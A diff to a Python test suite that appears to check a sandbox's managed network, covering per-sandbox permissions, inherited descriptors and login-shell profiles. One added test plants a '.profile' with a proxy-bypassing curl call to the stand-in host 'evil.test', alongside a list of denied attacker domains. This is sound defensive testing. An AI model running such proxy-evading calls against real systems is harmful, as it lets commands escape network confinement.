@@ -26,7 +26,7 @@ from tests.network.internet import (
     Internet,
 )
 from tests.sandbox.host import Host, Tree
-from tests.sandbox.profiles import WORKSPACE
+from tests.sandbox.profiles import DISABLED, WORKSPACE
 from tests.support.wire import Json
 
 DENIED_NAMES = {"evil.test", "evil6.test", "xn--k-0tb.test"}
@@ -57,18 +57,25 @@ SECONDS = 50
 Results = dict[str, dict[str, Any]]
 
 
-def managed(tree: Tree, rules: str) -> dict[str, Json]:
+def managed(tree: Tree, rules: str, permissions: Json = WORKSPACE) -> dict[str, Json]:
     """The members of a start with a managed network of these rules."""
     mode = "limited" if rules == LIMITED else "full"
     proxy = {"enabled": True, "enableSocks5": True, "mode": mode, "domains": DOMAINS[rules]}
     return {
-        "sandbox": tree.context(WORKSPACE),
+        "sandbox": tree.context(permissions),
         "enforceManagedNetwork": True,
         "networkProxy": {"proxy": proxy},
     }
 
 
-def run(internet: Internet, host: Host, name: str, which: list[Attempt], rules: str | None = None) -> Results:
+def run(
+    internet: Internet,
+    host: Host,
+    name: str,
+    which: list[Attempt],
+    rules: str | None = None,
+    permissions: Json = WORKSPACE,
+) -> Results:
     """Make attempts in one command, in a sandbox if there are rules, and return what came of each."""
     tree = host.tree()
     facts = {
@@ -87,7 +94,7 @@ def run(internet: Internet, host: Host, name: str, which: list[Attempt], rules: 
     program.write_bytes(Path(attempts.__file__).read_bytes())
     by_open_proxy = rules is None and which[0].by_proxy
     env = tree.env | (OPEN_PROXY if by_open_proxy else {})
-    members = {} if rules is None else managed(tree, rules)
+    members = {} if rules is None else managed(tree, rules, permissions)
     process = host.start(tree, ["python3", str(program), json.dumps(facts)], env=env, **members)
     done = host.finish(process, SECONDS)
     assert done.exit_code == 0, done
@@ -118,11 +125,15 @@ def is_permitted(attempt: Attempt, arrival: Arrival) -> bool:
     return attempt.rules != LIMITED or arrival.data.startswith(("GET ", "HEAD "))
 
 
-@pytest.mark.parametrize("rules", DOMAINS)
-def test_every_attempt_is_refused(internet: Internet, host: Host, rules: str) -> None:
+SANDBOXES = {LISTED: WORKSPACE, ALL: WORKSPACE, LIMITED: WORKSPACE, f"{LISTED}, all files": DISABLED}
+
+
+@pytest.mark.parametrize("sandbox", SANDBOXES)
+def test_every_attempt_is_refused(internet: Internet, host: Host, sandbox: str) -> None:
+    rules, name = sandbox.partition(",")[0], f"in{list(SANDBOXES).index(sandbox)}"
     which = [attempt for attempt in ATTEMPTS.values() if attempt.rules in (rules, ANY)]
-    results = run(internet, host, f"in{rules}", which, rules)
-    assert ways_out(internet, f"in{rules}", results) == {}
+    results = run(internet, host, name, which, rules, SANDBOXES[sandbox])
+    assert ways_out(internet, name, results) == {}
     for attempt in which:
         # What is permitted works, so that the others do not fail for another reason.
         if attempt.rules == ANY:
@@ -147,19 +158,31 @@ def test_every_attempt_is_successful_without_the_sandbox(
 INHERITED = """
 import os
 for name in os.listdir("/proc/self/fd"):
-    try:
-        if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
-            print("a socket")
-    except FileNotFoundError:
-        pass
+    if int(name) > 2 and os.path.lexists(f"/proc/self/fd/{name}"):
+        print(os.readlink(f"/proc/self/fd/{name}"))
 """
 
 
-def test_a_command_inherits_no_socket(host: Host) -> None:
+def test_a_command_inherits_no_descriptor_but_its_streams(host: Host) -> None:
     tree = host.tree()
     for members in ({}, {"tty": True}, {"pipeStdin": True}):
         assert host.python(tree, INHERITED, **managed(tree, LISTED), **members).output == b""
     with socket.socket() as given:
         command = [sys.executable, "-c", INHERITED]
         done = subprocess.run(command, pass_fds=[given.fileno()], capture_output=True)
-        assert done.stdout == b"a socket\n"
+        assert done.stdout.startswith(b"socket:")
+
+
+PROFILE = "curl -s -m 3 --noproxy '*' http://evil.test/profile-$WHICH\n"
+
+
+def test_the_profile_of_a_login_shell_has_no_other_network(internet: Internet, host: Host) -> None:
+    tree = host.tree()
+    tree.add({"ws/home/.profile": PROFILE})
+    snapshot = {"scopeId": "a", "shell": {"name": "bash", "path": "/bin/bash"}}
+    for which, members in (("confined", managed(tree, LISTED)), ("free", {})):
+        env = tree.env | {"HOME": str(tree.ws / "home"), "WHICH": which}
+        host.run(tree, ["/bin/bash", "-lc", "true"], env=env, shellSnapshot=snapshot, **members)
+    heard = "".join(arrival.data for arrival in internet.arrivals())
+    assert "profile-free" in heard
+    assert "profile-confined" not in heard
